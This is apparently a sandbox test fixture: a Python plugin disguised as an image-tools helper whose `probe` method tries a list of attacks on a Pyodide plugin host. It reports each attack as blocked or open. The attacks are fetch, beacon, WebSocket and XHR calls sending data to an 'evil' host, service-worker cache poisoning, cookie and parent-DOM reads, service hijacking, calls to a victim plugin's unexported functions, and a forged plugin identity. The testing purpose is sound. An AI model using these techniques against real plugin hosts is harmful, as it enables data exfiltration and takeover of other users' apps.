# /// script
# dependencies = ["numpy"]
#
# [tool.pyapp]
# name = "Image tools"
# description = "Handy helpers: invert, normalise and crop images."
# ///
"""Looks harmless; `probe` tries every attack of docs/security.md and reports what happened (for the e2e test).

Each entry of the report is "blocked: <why>" or "OPEN: <what got through>".
"""

import asyncio
import inspect

import js
from imjoy import api
from pyodide.ffi import create_once_callable, to_js


def _blocked(exc):
    return f"blocked: {type(exc).__name__}: {str(exc).splitlines()[0] if str(exc) else ''}"[:200]


async def _try(report, key, action):
    try:
        result = action()
        if inspect.isawaitable(result):
            result = await result
        report[key] = f"OPEN: {result!r}"[:200]
    except Exception as exc:  # every failure is the expected outcome here
        report[key] = _blocked(exc)


class ImageTools:
    def invert(self, x):
        return 255 - x

    async def probe(self, evil, site, victim, victim_name, victim_window):
        report = {}
        # 1. the app's CacheStorage (the service worker's precache): open and poison pyapp/app.js
        async def poison():
            cache = await js.caches.open("pyapp-poison")
            await cache.put(site + "pyapp/app.js", js.Response.new("alert('pwned')"))
            return "cache written"
        await _try(report, "cache", poison)
        # 2. the app's IndexedDB (workspaces)
        await _try(report, "indexeddb", lambda: js.indexedDB.open("pyapp-workspaces").readyState)
        await _try(report, "indexeddb_list", lambda: js.indexedDB.databases())
        # 3. the network: fetch GET/POST, sendBeacon, WebSocket, importScripts, import(), micropip-style loads
        await _try(report, "fetch", lambda: js.fetch(evil + "fetch?secret=1"))
        post = to_js({"method": "POST", "body": "image"}, dict_converter=js.Object.fromEntries)
        await _try(report, "fetch_post", lambda: js.fetch(evil + "post", post))
        await _try(report, "fetch_app_origin", lambda: js.fetch(site + "index.html"))
        await _try(report, "send_beacon", lambda: js.navigator.sendBeacon(evil + "beacon", "image"))
        await _try(report, "websocket", lambda: self._websocket(evil.replace("http", "ws") + "ws"))
        await _try(report, "import_scripts", lambda: js.importScripts(evil + "script.js"))
        await _try(report, "dynamic_import", lambda: js.eval(f"import('{evil}module.js')"))
        await _try(report, "xhr", lambda: self._xhr(evil + "xhr"))
        # 4. ask the page (through the sandbox's file relay) for a file of the app that is not Pyodide's
        await _try(report, "relay_app_file", lambda: js.fetch(site + "pyodide/../pyapp/app.js"))
        # 5. the page's DOM
        await _try(report, "parent_document", lambda: js.parent.document.title)
        await _try(report, "document", lambda: js.document.cookie)
        # 6. take over the app's model service
        fake = {"id": "pyapp.models", "predict": self.invert}
        await _try(report, "hijack_models", lambda: api.register_service(fake))
        # 7. another plugin's window, and a function it did not export
        await _try(report, "close_window", lambda: api._host("close_window", victim_window))
        runtime = api._runtime
        calls = []
        for n in range(1, 30):
            fid = f"{victim}/f{n}"
            try:
                calls.append(await runtime.make_proxy(fid, "x")())
            except Exception as exc:
                calls.append(_blocked(exc))
        report["unexported"] = calls
        # what the victim exported becomes callable once asked for by name; the rest stays closed
        other = await api.get_plugin(victim_name)
        report["exported"] = await other.hello("attacker")
        after = []
        for n in range(1, 30):
            try:
                after.append(await runtime.make_proxy(f"{victim}/f{n}", "x")("attacker"))
            except Exception as exc:
                after.append(_blocked(exc))
        report["unexported_after_get_plugin"] = after
        # 8. claim to be another plugin: a forged start message with another name
        forged = {"type": "started", "info": {"name": "Model runner"}}
        js.postMessage(to_js(forged, dict_converter=js.Object.fromEntries))
        return report

    async def _websocket(self, url):
        done = asyncio.get_running_loop().create_future()
        socket = js.WebSocket.new(url)
        socket.onopen = create_once_callable(lambda e: done.done() or done.set_result("connected"))
        socket.onerror = create_once_callable(lambda e: done.done() or done.set_exception(ConnectionError("refused")))
        return await done

    def _xhr(self, url):
        request = js.XMLHttpRequest.new()
        request.open("GET", url, False)
        request.send()
        return request.status


api.export(ImageTools())
